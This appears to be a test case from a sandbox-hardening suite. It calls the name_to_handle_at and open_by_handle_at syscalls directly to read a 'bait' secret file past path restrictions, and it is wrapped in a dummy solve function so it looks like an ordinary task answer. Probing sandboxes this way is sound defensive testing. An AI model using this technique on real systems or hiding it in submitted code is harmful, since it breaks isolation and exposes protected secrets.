# TRIES: name_to_handle_at and open_by_handle_at to open the bait past all paths. SUCCESS: the bait's content is in the answer.
#: check = secret bait
#: start = syscalls

h = ctypes.create_string_buffer(136)
ctypes.memmove(h, (128).to_bytes(4, "little"), 4)
m = ctypes.c_int()
print(tell(sc(303, -100, b"__BAIT__", h, ctypes.byref(m), 0)), m.value)
fd = sc(304, os.open(".", os.O_RDONLY), h, 0)
print(tell(fd))
if fd > 0:
    print(os.read(fd, 100))


def solve(x):
    return 2
